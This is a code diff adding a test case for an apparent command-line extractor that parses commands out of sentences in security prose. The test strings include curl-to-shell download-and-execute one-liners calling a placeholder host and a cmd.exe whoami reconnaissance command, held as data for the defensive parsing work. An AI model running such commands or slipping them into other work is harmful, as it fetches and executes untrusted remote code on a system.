@@ -478,4 +478,11 @@ describe('extractCmdlines', () => {
     expect(values('The command line was: %TEMP%\\a.exe.')).toEqual(['%TEMP%\\a.exe']);
     expect(values('The command line tool C:\\Tools\\x.exe is handy.')).toEqual([]);
   });
+
+  it('reads a shell handed a quoted script in a sentence, and a command a sentence sets in brackets up to the close', () => {
+    expect(values('It executes sh -c "curl -fsSL http://x.test/a | sh" via cron.')).toEqual(['sh -c "curl -fsSL http://x.test/a | sh"']);
+    expect(values('The option sh -c is documented.')).toEqual([]);
+    expect(values('The one-liner (curl -s http://x.test/a | bash) downloads the next stage.')).toEqual(['curl -s http://x.test/a | bash']);
+    expect(values('It ran (cmd.exe /c whoami /all), then exited.')).toEqual(['cmd.exe /c whoami /all']);
+  });
 });
